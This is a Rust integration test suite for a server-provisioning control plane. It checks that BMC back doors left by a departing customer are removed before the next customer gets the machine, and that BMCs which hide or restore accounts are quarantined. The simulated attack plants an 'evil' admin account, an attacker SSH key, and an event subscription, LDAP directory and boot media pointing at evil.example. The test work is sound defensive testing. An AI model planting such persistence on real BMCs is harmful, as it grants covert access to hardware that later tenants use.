//! In-band changes that a customer's system leaves on its BMC. The attacker has root on a handed-over machine, creates an
//! administrator account there and more, returns the machine, and tries to get in again when the next customer has it.

use std::net::SocketAddrV4;
use std::path::Path;

use rackwright_sim::fleet::{AccessFault, Fleet, FleetConfig, SimNode};
use rackwright_sim::install_crypto;
use rackwright_tests::plane::{Plane, TEST_LIMIT};
use rackwright_tests::ports::free_port;
use rackwright_tests::site::{Site, texts};

const PASSWORD: &str = "a-back-door-4-me";

/// The operator's profile of the simulated BMC.
const KCS_OF_THE_SIMULATOR: &str = r#"{
  "source": ["the simulated BMC: Privilege bounds what the machine may do over KCS"],
  "matches": [{"system.Manufacturer": "Rackwright"}],
  "set": {"in_band": [{"resource": "Oem/Rackwright/KCSInterface", "property": ["Privilege"], "closed": ["Callback"]}]}
}"#;

/// A control plane and machines in its pool.
struct Hall {
    plane: Plane,
    fleet: Fleet,
}

impl Hall {
    /// `prepare` sees each machine before the machine is enrolled.
    async fn start(dir: &Path, nodes: usize, further: &str, prepare: impl Fn(&SimNode)) -> Self {
        install_crypto();
        let ssh = free_port();
        let further = format!("ssh_port: {ssh}\n{further}");
        let plane = Plane::start_with(dir, "pxe", &further).await;
        let config = FleetConfig {
            nodes,
            boot_server: Some(plane.dhcp),
            tftp_port: plane.tftp_port,
            ssh_listen: Some(SocketAddrV4::new([0, 0, 0, 0].into(), ssh)),
            ..FleetConfig::default()
        };
        let fleet = Fleet::start(config).await.expect("the fleet starts");
        for index in 0..fleet.nodes() {
            prepare(&fleet.node(index));
        }
        plane.enrol(&fleet, |_| "lab".to_owned()).await;
        let image = dir.join("disk.raw");
        std::fs::write(&image, vec![7; 1 << 20]).expect("an image");
        let image = image.display().to_string();
        plane
            .site
            .cli(["image", "add", "disk", "--file", &image, "--format", "raw"]);
        Self { plane, fleet }
    }

    fn site(&self) -> &Site {
        &self.plane.site
    }

    /// Hands every machine over to a customer.
    async fn hand_over(&self) {
        for index in 0..self.fleet.nodes() {
            let id = self.fleet.node(index).name();
            self.site().cli(["node", "deploy", &id, "--image", "disk"]);
        }
        for index in 0..self.fleet.nodes() {
            let id = self.fleet.node(index).name();
            self.site().until(&id, &["active"], TEST_LIMIT).await;
        }
    }

    /// Releases or readmits a machine and returns its final state.
    fn state_after(&self, verb: &str, node: &SimNode) -> String {
        let output = self.site().try_cli(["node", verb, "--yes", "--wait", &node.name()]);
        let ended = output.status.code().is_some_and(|code| matches!(code, 0 | 7));
        assert!(ended, "{:?}", texts(&output));
        self.site().state(&node.name())
    }

    fn events(&self, node: &SimNode) -> String {
        let target = format!("nodes/{}", node.name());
        self.site().cli(["events", "--target", &target, "-o", "json"])
    }

    async fn end(self) {
        self.plane.site.stop().await;
        self.fleet.stop().await;
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_back_door_on_the_bmc_is_removed_before_the_next_customer_gets_the_machine() {
    let dir = tempfile::tempdir().expect("a folder");
    let hall = Hall::start(dir.path(), 2, "", |_| ()).await;
    let site = hall.site();
    hall.hand_over().await;
    let (robbed, honest) = (hall.fleet.node(0), hall.fleet.node(1));
    robbed.add_account("evil", PASSWORD);
    robbed.add_key("ssh-ed25519 AAAA-the-attackers-key");
    robbed.add_subscription("https://evil.example/events?token=the-attackers-token");
    robbed.add_directory("ldaps://evil.example");
    robbed.add_media("http://evil.example/rescue.iso");
    let token = robbed.add_session("evil").expect("a session");
    assert!(robbed.opens("evil", PASSWORD) && robbed.admits_token(&token));

    // The customer's system still runs when the node is released. It creates a second account after the first one was
    // removed: the machine boots, possibly from its drive, before the drives are erased.
    let boots = robbed.view().boots;
    let again = robbed.clone();
    let implant = tokio::spawn(async move {
        again.wait_for(|view| view.boots > boots).await;
        let was_clean = !again.opens("evil", PASSWORD);
        again.add_account("evil-again", PASSWORD);
        was_clean
    });
    assert_eq!(
        hall.state_after("release", &robbed),
        "available",
        "{}",
        site.reason(&robbed.name())
    );
    let was_clean = implant.await.expect("it ended");
    assert!(was_clean, "the machine was booted before its BMC was cleaned");

    assert_eq!(robbed.users(), [robbed.user()]);
    for user in ["evil", "evil-again"] {
        assert!(!robbed.opens(user, PASSWORD), "{user} can still log in");
    }
    assert!(!robbed.admits_token(&token), "the session is still open");
    assert_eq!(robbed.left(), (0, 0, false, false));
    assert_eq!(robbed.media(), None);
    let events = hall.events(&robbed);
    assert_eq!(events.matches("security.bmc-foreign-removed").count(), 7, "{events}");
    for (word, is_reported) in [
        ("evil-again", true),
        ("https://evil.example/events", true),
        ("the-attackers-token", false),
        ("the-attackers-key", false),
        (PASSWORD, false),
    ] {
        assert_eq!(events.contains(word), is_reported, "{word}: {events}");
    }
    let explained = site.cli(["node", "explain", &robbed.name()]);
    assert!(explained.contains("removed: account \"evil"), "{explained}");

    assert_eq!(
        hall.state_after("release", &honest),
        "available",
        "{}",
        site.reason(&honest.name())
    );
    assert!(!hall.events(&honest).contains("bmc-foreign"));
    let explained = site.cli(["node", "explain", &honest.name()]);
    assert!(explained.contains("nothing foreign. proven"), "{explained}");
    hall.hand_over().await;
    hall.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_bmc_that_keeps_a_back_door_or_hides_its_accounts_sends_the_node_to_quarantine() {
    let dir = tempfile::tempdir().expect("a folder");
    let hall = Hall::start(dir.path(), 4, "", |_| ()).await;
    let site = hall.site();
    hall.hand_over().await;
    let cases: [(AccessFault, &[&str]); 4] = [
        (
            AccessFault::RestoresAccounts,
            &[
                "account \"evil\"",
                "/redfish/v1/AccountService/Accounts/2",
                "came back",
                "readmit",
            ],
        ),
        (
            AccessFault::RefusesRemoval,
            &[
                "account \"evil\"",
                "/redfish/v1/AccountService/Accounts/2",
                "insufficient privileges",
                "readmit",
            ],
        ),
        (
            AccessFault::HidesAccounts,
            &[
                "accounts",
                "the BMC does not show them",
                "unknown: allow",
                "rackwright.bmc-state=unknown-allowed",
            ],
        ),
        (
            AccessFault::FailsAccounts,
            &[
                "accounts",
                "500",
                "/redfish/v1/AccountService/Accounts",
                "unknown: allow",
            ],
        ),
    ];
    for (index, (fault, words)) in cases.iter().enumerate() {
        let node = hall.fleet.node(index);
        node.add_account("evil", PASSWORD);
        node.set_access_fault(*fault);
        let boots = node.view().boots;
        assert_eq!(hall.state_after("release", &node), "quarantined", "{fault:?}");
        let reason = site.reason(&node.name());
        for word in *words {
            assert!(
                reason.contains(word),
                "{fault:?}: {word:?} is not in the reason: {reason}"
            );
        }
        assert_eq!(
            node.view().boots,
            boots,
            "{fault:?}: the machine is not booted before its BMC is clean"
        );
        assert!(node.opens("evil", PASSWORD), "{fault:?}");
    }

    // An operator allows this one to pass: its state is shown as unknown.
    let hidden = hall.fleet.node(2);
    site.cli(["node", "label", &hidden.name(), "rackwright.bmc-state=unknown-allowed"]);
    assert_eq!(
        hall.state_after("readmit", &hidden),
        "available",
        "{}",
        site.reason(&hidden.name())
    );
    let explained = site.cli(["node", "explain", &hidden.name()]);
    assert!(explained.contains("unknown: accounts"), "{explained}");
    // BMCs that work again are cleaned when the node is readmitted. No label lets a known foreign item pass.
    for index in [0, 1, 3] {
        let node = hall.fleet.node(index);
        site.cli(["node", "label", &node.name(), "rackwright.bmc-state=unknown-allowed"]);
        if index == 0 {
            assert_eq!(hall.state_after("readmit", &node), "quarantined");
        }
        node.set_access_fault(AccessFault::None);
        assert_eq!(
            hall.state_after("readmit", &node),
            "available",
            "{}",
            site.reason(&node.name())
        );
        assert_eq!(node.users(), [node.user()]);
    }
    hall.end().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn accounts_of_the_site_stay_and_unknown_ones_are_reported_at_the_enrolment_and_removed_at_the_release() {
    let dir = tempfile::tempdir().expect("a folder");
    let quirks = dir.path().join("quirks");
    std::fs::create_dir(&quirks).expect("a folder");
    std::fs::write(quirks.join("sim.json"), KCS_OF_THE_SIMULATOR).expect("a profile");
    let quirks = quirks.display();
    let further = format!("bmc_state: {{keep_accounts: [monitor], in_band: close}}\nbmc_quirks: {quirks}\n");
    let hall = Hall::start(dir.path(), 1, &further, |node| {
        node.add_account("monitor", PASSWORD);
        node.add_account("forgotten", PASSWORD);
        node.open_host_interface();
        node.open_kcs();
    })
    .await;
    let (site, node) = (hall.site(), hall.fleet.node(0));
    // An enrolment removes nothing.
    assert_eq!(node.users().len(), 3);
    assert!(node.is_kcs_open());
    let events = hall.events(&node);
    assert!(
        events.contains("security.bmc-foreign") && events.contains("forgotten"),
        "{events}"
    );
    assert!(!events.contains("monitor"), "{events}");
    let explained = site.cli(["node", "explain", &node.name()]);
    for word in [
        "foreign and still present: account \"forgotten\"",
        "KCS access \"Privilege\" (\"Administrator\")",
        "kept by the settings: account \"monitor\"",
    ] {
        assert!(explained.contains(word), "{word}: {explained}");
    }
    hall.hand_over().await;
    // A BMC that reports KCS as closed and leaves it open.
    node.set_access_fault(AccessFault::KeepsKcs);
    assert_eq!(hall.state_after("release", &node), "quarantined");
    let reason = site.reason(&node.name());
    for word in [
        "KCS access \"Privilege\"",
        "Managers/1/Oem/Rackwright/KCSInterface",
        "came back",
    ] {
        assert!(reason.contains(word), "{word}: {reason}");
    }
    assert!(node.is_kcs_open());
    node.set_access_fault(AccessFault::None);
    assert_eq!(
        hall.state_after("readmit", &node),
        "available",
        "{}",
        site.reason(&node.name())
    );
    assert!(node.opens("monitor", PASSWORD) && !node.opens("forgotten", PASSWORD));
    assert!(!node.left().3, "the host interface is closed");
    assert!(!node.is_kcs_open());
    hall.end().await;
}
